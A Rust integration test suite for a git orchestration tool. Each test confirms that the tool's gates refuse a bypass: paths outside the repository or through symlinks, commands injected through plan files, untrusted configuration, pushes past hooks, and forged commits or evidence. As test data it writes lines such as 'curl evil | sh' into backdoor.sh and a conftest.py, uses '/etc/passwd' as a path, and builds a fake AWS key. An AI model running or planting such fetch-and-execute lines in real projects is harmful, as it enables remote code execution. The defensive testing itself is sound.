//! Enforcement that holds: every way past a gate that was found by trying, and every way bad
//! configuration could do harm outside the repository, each tried here on real git.

use crate::common::TestRepo;

/// A repository whose committed configuration is `config`.
fn configured(config: &str) -> TestRepo {
    let t = TestRepo::new();
    t.write(".orchestrate.toml", config);
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "-m", "chore: gates"]);
    t
}

#[test]
fn a_report_path_outside_the_repository_is_refused_and_nothing_is_deleted() {
    for report in ["../../../notes.txt", "../notes.txt", "/tmp/orchestrate-never-there.json", "cov/../../x.json"] {
        let t = TestRepo::new();
        t.write("notes.txt", "my untracked notes\n");
        let outside = t.root.join("notes.txt");
        std::fs::write(&outside, "outside the repository\n").unwrap();
        t.write(".orchestrate.toml", &format!("# gates\n[gates.coverage]\nrun = \"true\"\nreport = \"{report}\"\n"));
        t.git(["add", ".orchestrate.toml"]);
        t.git(["commit", "-q", "-m", "chore: gates"]);
        let run = t.run(["gate"]).code(2);
        assert!(run.stderr.contains(".orchestrate.toml:4:1: gates.coverage.report"), "{report}: {}", run.stderr);
        assert!(run.stderr.contains("outside the repository"), "{}", run.stderr);
        assert_eq!(t.read("notes.txt"), "my untracked notes\n");
        assert_eq!(std::fs::read_to_string(&outside).unwrap(), "outside the repository\n");
    }
}

#[test]
fn a_report_path_through_a_symlink_is_refused_and_its_target_kept() {
    let t = TestRepo::new();
    let outside = t.root.join("elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("coverage.json"), "keep me\n").unwrap();
    std::os::unix::fs::symlink(&outside, t.dir.join("cov")).unwrap();
    t.write(".orchestrate.toml", "[gates.coverage]\nrun = \"true\"\nreport = \"cov/coverage.json\"\n");
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "-m", "chore: gates"]);
    let report = t.run(["gate", "--json"]).code(1).json();
    let g = &report["gates"][0];
    assert_eq!(g["verdict"], "error", "{report}");
    assert!(g["reasons"][0].as_str().unwrap().contains("symlink"), "{report}");
    assert_eq!(std::fs::read_to_string(outside.join("coverage.json")).unwrap(), "keep me\n");
}

#[test]
fn baseline_and_gitleaks_paths_stay_inside_too() {
    let t = configured("[gates.secrets]\nbaseline = \"/etc/passwd\"\n");
    let run = t.run(["gate"]).code(2);
    assert!(run.stderr.contains("gates.secrets.baseline"), "{}", run.stderr);
    let t = configured("[gates.secrets]\ngitleaks = \"../../.gitleaks.toml\"\n");
    assert!(t.run(["gate"]).code(2).stderr.contains("gates.secrets.gitleaks"));
}

/// Run the binary with its stdout a pipe whose reader is already gone (`… | true`).
fn run_into_closed_pipe(t: &TestRepo, args: &[&str]) -> i32 {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let status = t.command(crate::common::BIN, &t.dir).args(args).stdout(writer).status().unwrap();
    status.code().unwrap_or(-1)
}

#[test]
fn a_closed_pipe_keeps_the_verdict() {
    let t = configured("[gates.tests]\nrun = \"exit 3\"\n");
    assert_eq!(run_into_closed_pipe(&t, &["gate"]), 1, "a failing required gate exits 1, piped or not");
    assert_eq!(run_into_closed_pipe(&t, &["gate", "--json"]), 1);
    t.write("plans/bad/plan.md", "+++\nfeature = \"bad\"\n+++\n");
    assert_ne!(run_into_closed_pipe(&t, &["plan", "lint", "--file", "plans/bad/plan.md"]), 0);
}

#[test]
fn a_missing_tool_or_a_signal_is_an_error_never_a_cached_fail() {
    let t = configured(
        "[gates.audit-deps]\nrun = \"orchestrate-test-scanner --all\"\n[gates.killed]\nrun = \"kill -9 $$\"\n",
    );
    let report = t.run(["gate", "--json", "--all"]).code(1).json();
    let missing = report["gates"].as_array().unwrap().iter().find(|g| g["gate"] == "audit-deps").unwrap().clone();
    assert_eq!(missing["verdict"], "error", "{missing}");
    let reason = missing["reasons"][0].as_str().unwrap();
    assert!(
        reason.contains("not installed") && reason.contains("not found"),
        "the shell's own words are shown: {reason}"
    );
    let killed = report["gates"].as_array().unwrap().iter().find(|g| g["gate"] == "killed").unwrap().clone();
    assert_eq!(killed["verdict"], "error", "{killed}");
    // The text output shows the command's own output.
    let run = t.run(["gate", "--only", "audit-deps"]).code(1);
    assert!(run.stderr.contains("orchestrate-test-scanner: not found"), "{}", run.stderr);

    // Install the tool: the gate runs again (nothing was cached) and passes.
    let bin = t.root.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::write(bin.join("orchestrate-test-scanner"), "#!/bin/sh\necho scanned\n").unwrap();
    std::fs::set_permissions(bin.join("orchestrate-test-scanner"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    #[allow(clippy::disallowed_methods)]
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let report = t.run_env(&[("PATH", &path)], ["gate", "--only", "audit-deps", "--json"]).ok().json();
    assert_eq!(
        (report["gates"][0]["verdict"].as_str(), report["gates"][0]["cached"].as_bool()),
        (Some("pass"), Some(false))
    );
}

/// A plan whose phase 1 carries `override_toml` under `[phase.gates]`.
fn plan_with_override(feature: &str, override_toml: &str) -> String {
    TestRepo::plan_text(feature, 2).replacen(
        "risks = [\"risk 1\"]\n",
        &format!("risks = [\"risk 1\"]\n{override_toml}"),
        1,
    )
}

#[test]
fn plan_text_never_sets_a_command() {
    let t = configured("[gates.tests]\nrun = \"true\"\nstage = \"pre-commit\"\ncounts = false\n");
    let plan = plan_with_override("pwn", "[phase.gates.tests]\nrun = \"touch pwned\"\nenv = { A = \"1\" }\n");
    let file = t.root.join("pwn-plan.md");
    std::fs::write(&file, &plan).unwrap();
    // Lint names the keys; the plan cannot be started as it is.
    let lint = t.run(["plan", "lint", "--file", file.to_str().unwrap()]).code(1);
    assert!(lint.stdout.contains("sets `run`, which a plan may not set"), "{}", lint.stdout);
    assert!(lint.stdout.contains("sets `env`"), "{}", lint.stdout);

    // Even a plan committed past lint never gets its command run.
    t.started_and_approved("pwn", 2);
    t.write("plans/pwn/plan.md", &plan);
    t.git(["commit", "-qam", "docs(pwn): tune the plan", "--no-verify"]);
    let gate = t.run(["gate", "--feature", "pwn", "--phase", "1", "--stage", "pre-commit"]).code(2);
    assert!(gate.stderr.contains("which a plan may not set"), "{}", gate.stderr);
    assert!(!t.dir.join("pwned").exists() && !t.root.join("pwned").exists());
    let gate_worktrees = t.home().join(".cache/git-orchestrate/worktrees");
    let pwned =
        std::fs::read_dir(&gate_worktrees).into_iter().flatten().flatten().any(|d| d.path().join("pwned").exists());
    assert!(!pwned, "the plan's command ran in a gate worktree");
}

#[test]
fn the_brief_shows_the_phase_s_own_thresholds_and_the_approval_shows_every_override() {
    let t = configured("[gates.coverage]\nrun = \"true\"\nreport = \"coverage.json\"\nmin = 80\n");
    let file = t.root.join("tuned-plan.md");
    std::fs::write(&file, plan_with_override("tuned", "[phase.gates.coverage]\nmin = 60\n")).unwrap();
    t.run(["start", "tuned", "--plan", file.to_str().unwrap()]).ok();
    let approve = t.run(["approve", "plan", "--yes"]).ok();
    assert!(
        approve.stderr.contains("phase 1 overrides gate coverage: min = 60 (.orchestrate.toml: 80"),
        "{}",
        approve.stderr
    );
    t.run(["phase", "start", "1"]).ok();
    let brief = t.run(["phase", "brief", "1"]).ok();
    assert!(brief.stdout.contains("coverage (pre-push, min 60"), "{}", brief.stdout);
}

fn aws() -> String {
    format!("{}{}", "AKIA", "Z7QW4R2T5Y6U3I2O")
}

/// Hooks installed, a secrets gate and a pre-push command gate committed, phase 1 of `x`
/// started, and a bare remote.
fn on_phase_with_remote(extra_config: &str) -> TestRepo {
    let t = TestRepo::new();
    t.configure(&format!("[gates.secrets]\n{extra_config}"));
    t.run(["hooks", "install"]).ok();
    t.started_and_approved("x", 2);
    t.run(["phase", "start"]).ok();
    let remote = t.root.join("remote.git");
    t.git(["init", "-q", "--bare", remote.to_str().unwrap()]);
    t.git(["remote", "add", "origin", remote.to_str().unwrap()]);
    t.git(["push", "-q", "--no-verify", "origin", "main"]);
    t
}

#[test]
fn a_fresh_clone_runs_no_configured_command_before_trust() {
    let t = configured(
        "[gates.tests]\nrun = \"touch ran-$ORCHESTRATE_GATE; true\"\nstage = \"pre-push\"\ncounts = false\n",
    );
    t.without_ci_trust();
    let run = t.run(["gate"]).code(1);
    assert!(run.stderr.contains("not trusted by you yet"), "{}", run.stderr);
    assert!(
        run.stderr.contains("gate tests runs: touch ran-$ORCHESTRATE_GATE; true"),
        "the commands are listed: {}",
        run.stderr
    );
    assert!(run.stderr.contains("git orchestrate trust"), "{}", run.stderr);
    let gate_dir = t.dir.join(".git/orchestrate/worktree");
    assert!(!gate_dir.join("ran-tests").exists(), "nothing ran");

    // What would run, then the consent, recorded in the user's own configuration.
    let show = t.run(["trust", "--show", "--json"]).ok().json();
    assert_eq!(show["trusted"], false);
    t.run(["trust"]).ok();
    let store = std::fs::read_to_string(t.home().join(".config/git-orchestrate/trusted")).unwrap();
    assert!(store.contains(show["hash"].as_str().unwrap()), "{store}");
    assert!(!t.git(["status", "--porcelain", "--ignored"]).contains("trusted"), "nothing is written in the repository");
    t.run(["gate"]).ok();

    // A changed command set needs trust again; a changed threshold elsewhere does not.
    t.configure("[gates.tests]\nrun = \"touch other; true\"\nstage = \"pre-push\"\ncounts = false\n");
    assert!(t.run(["gate"]).code(1).stderr.contains("not trusted by you yet"));
    // CI opts in explicitly.
    t.run(["gate", "--trust"]).ok();
    t.run_env(&[("ORCHESTRATE_TRUST_CONFIG", "1")], ["gate", "--force"]).ok();
}

#[test]
fn a_push_is_judged_by_where_it_lands_and_what_it_brings() {
    let t = on_phase_with_remote("");
    t.write("area1/skipped.txt", "not gated\n");
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): skipped the hooks"]);
    let head = t.rev("HEAD");
    for spec in [
        "HEAD".to_string(),
        "HEAD:orchestrate/x/1-database-schema".to_string(),
        format!("{head}:refs/heads/orchestrate/x/1-database-schema"),
        "HEAD:refs/heads/elsewhere".to_string(),
    ] {
        let run = t.git_try(["push", "-q", "origin", &spec]);
        assert_ne!(run.code, 0, "`git push origin {spec}` is refused");
        assert!(run.stderr.contains("has no passing `secrets` evidence"), "{spec}: {}", run.stderr);
    }
    // Another local name for the same commits changes nothing either.
    t.git(["branch", "innocent"]);
    let run = t.git_try(["push", "-q", "origin", "innocent"]);
    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
    // Into the base, before the feature is finished: refused whatever the names.
    let run = t.git_try(["push", "-q", "origin", "HEAD:main"]);
    assert!(run.stderr.contains("the feature is not finished"), "{}", run.stderr);
    assert_eq!(
        t.git(["ls-remote", "origin"]).lines().count(),
        1,
        "only main is there: {}",
        t.git(["ls-remote", "origin"])
    );
}

#[test]
fn the_integration_branch_takes_no_hand_made_commit() {
    let t = on_phase_with_remote("");
    t.git(["switch", "-q", "orchestrate/x/main"]);
    t.write("src/app.py", "print('unreviewed')\n");
    t.git(["add", "-A"]);
    let run = t.git_try(["commit", "-q", "-m", "feat(x): sneak it in"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("the integration branch of x, changes src/app.py"), "{}", run.stderr);
    assert!(run.stderr.contains("make the change in a phase"), "{}", run.stderr);
    // A plan edit is how plans change: it is accepted.
    t.git(["restore", "--staged", "src/app.py"]);
    let plan = t.read("plans/x/plan.md").replace("task 2a", "task 2a, clarified");
    t.write("plans/x/plan.md", &plan);
    t.git(["add", "plans/x/plan.md"]);
    t.git(["commit", "-q", "-m", "docs(x): clarify phase 2"]);
    // Past the hook with --no-verify: pre-push refuses it.
    t.git(["add", "src/app.py"]);
    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): sneak it in"]);
    let run = t.git_try(["push", "-q", "origin", "orchestrate/x/main"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("changes src/app.py"), "{}", run.stderr);
}

#[test]
fn the_configuration_that_judges_is_the_committed_one_of_the_integration_branch() {
    let t = on_phase_with_remote("");
    // An unstaged edit that removes the secrets gate weakens nothing.
    t.write(".orchestrate.toml", "# nothing to see\n");
    t.write("area1/config.py", &format!("KEY = \"{}\"\n", aws()));
    t.git(["add", "area1/config.py"]);
    let run = t.git_try(["commit", "-q", "-m", "feat(x): config"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("secrets"), "{}", run.stderr);
    // A phase that commits a weaker configuration is not judged by its own edit.
    t.git(["restore", "--staged", "area1/config.py"]);
    std::fs::remove_file(t.dir.join("area1/config.py")).unwrap();
    t.git(["add", ".orchestrate.toml"]);
    t.git(["commit", "-q", "--no-verify", "-m", "chore(x): drop the gates"]);
    t.write("area1/config.py", &format!("KEY = \"{}\"\n", aws()));
    t.git(["add", "area1/config.py"]);
    let run = t.git_try(["commit", "-q", "-m", "feat(x): config"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("secrets"), "{}", run.stderr);
}

#[test]
fn a_verdict_for_another_phase_or_fork_point_is_not_replayed() {
    let t = TestRepo::new();
    t.configure("[gates.scope]\n");
    t.started_and_approved("x", 2);
    t.run(["phase", "start"]).ok();
    t.commit_file("area2/early.txt", "phase 2's file, made in phase 1\n", "feat(x): early");
    // Judged as phase 1 the file is outside its paths; judged as phase 2 it is inside.
    let one = t.run(["gate", "--phase", "1", "--json"]).code(1).json();
    assert_eq!(one["gates"][0]["verdict"], "fail", "{one}");
    let two = t.run(["gate", "--phase", "2", "--json"]).json();
    assert_eq!(two["gates"][0]["cached"], false, "another phase is another key: {two}");
    assert_ne!(two["gates"][0]["fingerprint"], one["gates"][0]["fingerprint"]);
}

#[test]
fn approving_a_phase_needs_passing_evidence_or_a_named_override() {
    let t = TestRepo::new();
    t.configure(
        "[gates.tests]\nrun = \"test -f area1/tested -o -f area2/tested\"\nstage = \"review\"\ncounts = false\n",
    );
    t.started_and_approved("x", 2);
    t.run(["phase", "start"]).ok();
    t.commit_file("area1/a.txt", "a\n", "feat(x): work");
    let before = t.rev("orchestrate/x/main");
    // The review-stage gate never ran: submitting runs it, and it fails; the phase cannot be
    // submitted, so it cannot be approved.
    let run = t.run(["phase", "submit"]).code(1);
    assert!(run.stderr.contains("phase 1 of x is not ready for review: tests did not pass"), "{}", run.stderr);
    let run = t.run(["approve", "phase", "--yes"]).code(1);
    assert!(run.stderr.contains("phase 1 of x is not submitted for review"), "{}", run.stderr);
    assert_eq!(t.rev("orchestrate/x/main"), before, "nothing was squashed");
    // An override needs a reason, and names a gate that blocks.
    assert!(t.run(["approve", "phase", "--yes", "--override", "tests"]).code(2).stderr.contains("needs the reason"));
    assert!(t
        .run(["approve", "phase", "--yes", "--override", "lint", "-m", "x"])
        .code(2)
        .stderr
        .contains("does not block"));
    // A person's recorded decision lets it through, and it shows.
    t.run(["approve", "phase", "--yes", "--override", "tests", "-m", "flaky runner, tracked in #12"]).ok();
    let body = t.git(["log", "-1", "--format=%B", "orchestrate/x/main"]);
    assert!(body.contains("Gate-Override: tests: flaky runner, tracked in #12"), "{body}");
    assert!(t.run(["log"]).ok().stdout.contains("override tests: flaky runner"));
    assert!(t.run(["status"]).ok().stdout.contains("gate overridden: tests: flaky runner"));
    assert_eq!(
        t.run(["status", "--json"]).ok().json()["features"][0]["phases"][0]["overrides"][0],
        "tests: flaky runner, tracked in #12"
    );
    assert_eq!(t.events("x").last().unwrap()["overrides"][0], "tests: flaky runner, tracked in #12");

    // Phase 2: the fix makes the gate pass and the approval goes through without an override.
    t.run(["phase", "start"]).ok();
    t.commit_file("area2/tested", "yes\n", "test(x): mark tested");
    t.run(["phase", "submit"]).ok();
    t.run(["approve", "phase", "--yes"]).ok();
}

// What a fresh-eyed attack found past the first fixes, each closed.

#[test]
fn an_incomplete_gate_s_command_still_needs_trust() {
    // A metric gate without bounds does not resolve; a plan's `min = 0` would complete it.
    let t = configured(
        "[gates.lint]\nkind = \"metric\"\nrun = \"touch pwned; echo '{\\\"a\\\": 1}' > r.json\"\nreport = \"r.json\"\npath = \"a\"\n",
    );
    let show = t.run(["trust", "--show", "--json"]).ok().json();
    assert_eq!(show["commands"][0]["gate"], "lint", "{show}");
    assert!(show["commands"][0]["run"].as_str().unwrap().starts_with("touch pwned"), "{show}");
}

#[test]
fn a_merge_commit_on_a_phase_needs_evidence_too() {
    let t = on_phase_with_remote("");
    let phase = t.head_branch();
    t.git(["switch", "-q", "-c", "side", "main"]);
    t.commit_file("side.txt", "side\n", "chore: side");
    t.git(["switch", "-q", &phase]);
    t.git(["merge", "-q", "--no-ff", "--no-commit", "side"]);
    t.write("area1/key.py", &format!("KEY = \"{}\"\n", aws()));
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "--no-verify", "-m", "Merge branch 'side'"]);
    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
    assert_ne!(run.code, 0, "a merge made past the hooks is refused");
    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
}

#[test]
fn a_hand_made_remote_tracking_ref_proves_nothing() {
    let t = on_phase_with_remote("");
    t.commit_file("area1/skipped.txt", "x\n", "feat(x): gated");
    t.write("area1/ungated.txt", "y\n");
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): ungated"]);
    t.git(["update-ref", "refs/remotes/origin/anything", "HEAD"]);
    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
}

#[test]
fn a_commit_slipped_onto_the_integration_branch_changes_neither_config_nor_approval() {
    let t = on_phase_with_remote("");
    let integration = "orchestrate/x/main";
    let before = t.rev(integration);
    // A plumbing commit (no hook runs) that drops the secrets gate.
    let blob = t.hash_blob("# no gates\n");
    let listing = t.git(["ls-tree", integration]).replace(&t.rev(&format!("{integration}:.orchestrate.toml")), &blob);
    let mut mktree = t.command("git", &t.dir);
    mktree.arg("mktree").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = mktree.spawn().unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), listing.as_bytes()).unwrap();
    drop(child.stdin.take());
    let tree = String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap().trim().to_string();
    let commit = t.git(["commit-tree", &tree, "-p", integration, "-m", "chore: tidy"]).trim().to_string();
    t.git(["update-ref", &format!("refs/heads/{integration}"), &commit]);
    // The phase is still judged by the configuration the tool committed.
    t.write("area1/key.py", &format!("KEY = \"{}\"\n", aws()));
    t.git(["add", "-A"]);
    let run = t.git_try(["commit", "-q", "-m", "feat(x): key"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    t.git(["rm", "-q", "--cached", "area1/key.py"]);
    t.commit_file("area1/ok.txt", "ok\n", "feat(x): fine");
    t.run(["phase", "submit"]).ok();
    // And an approval refuses to squash on top of the hand-made commit.
    let run = t.run(["approve", "phase", "--yes"]).code(1);
    assert!(run.stderr.contains("made by hand, which changes .orchestrate.toml"), "{}", run.stderr);
    t.git(["update-ref", &format!("refs/heads/{integration}"), &before]);
    t.run(["approve", "phase", "--yes"]).ok();
}

#[test]
fn trailers_written_by_hand_are_not_an_interrupted_approval() {
    let t = on_phase_with_remote("");
    t.commit_file("area1/ok.txt", "ok\n", "feat(x): harmless");
    t.run(["phase", "submit"]).ok();
    let phase = t.head_branch();
    t.git(["switch", "-q", "orchestrate/x/main"]);
    t.write("backdoor.sh", "curl evil | sh\n");
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): database schema\n\nFeature: x\nPhase: 1/2"]);
    t.git(["switch", "-q", &phase]);
    let run = t.run(["approve", "phase", "--yes"]).code(1);
    assert!(run.stderr.contains("made by hand, which changes backdoor.sh"), "{}", run.stderr);
    assert_eq!(t.run(["status", "--json"]).ok().json()["features"][0]["phases"][0]["state"], "awaiting-review");
}

#[test]
fn only_markdown_in_the_plan_folder_counts_as_a_plan_edit() {
    let t = on_phase_with_remote("");
    let phase = t.head_branch();
    t.git(["switch", "-q", "orchestrate/x/main"]);
    t.write("plans/x/conftest.py", "import os\nos.system('curl evil | sh')\n");
    t.git(["add", "-A"]);
    let run = t.git_try(["commit", "-q", "-m", "docs(x): notes"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("changes plans/x/conftest.py"), "{}", run.stderr);
    t.git(["rm", "-q", "--cached", "plans/x/conftest.py"]);
    std::fs::remove_file(t.dir.join("plans/x/conftest.py")).unwrap();
    t.git(["switch", "-q", &phase]);
}

#[test]
fn evidence_copied_from_another_tree_does_not_count() {
    let t = on_phase_with_remote("");
    t.commit_file("area1/good.txt", "good\n", "feat(x): good");
    let good = t.rev("HEAD^{tree}");
    t.write("area1/bad.txt", "bad\n");
    t.git(["add", "-A"]);
    t.git(["commit", "-q", "--no-verify", "-m", "feat(x): bad"]);
    let bad = t.rev("HEAD^{tree}");
    let note = t.git(["notes", "--ref=orchestrate-evidence", "show", &good]);
    t.git(["notes", "--ref=orchestrate-evidence", "add", "-f", "-m", note.trim(), &bad]);
    let run = t.git_try(["push", "-q", "origin", "HEAD"]);
    assert_ne!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("has no passing `secrets` evidence"), "{}", run.stderr);
}
